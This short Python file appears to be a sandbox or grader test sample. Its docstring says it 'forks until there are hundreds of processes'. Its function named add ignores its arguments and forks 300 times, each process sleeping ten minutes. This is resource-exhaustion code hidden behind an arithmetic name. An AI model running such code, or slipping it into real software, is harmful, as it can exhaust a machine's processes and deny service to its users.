"""Forks until there are hundreds of processes.

Lab: plain
Scores: 7
"""

import os
import time


def add(a, b):
    for _ in range(300):
        if os.fork() == 0:
            time.sleep(600)
    time.sleep(600)


def count(words):
    return {word: words.count(word) for word in words}


def shout(words):
    return [word.upper() for word in words]


def apply(function, values):
    return [function(value) for value in values]
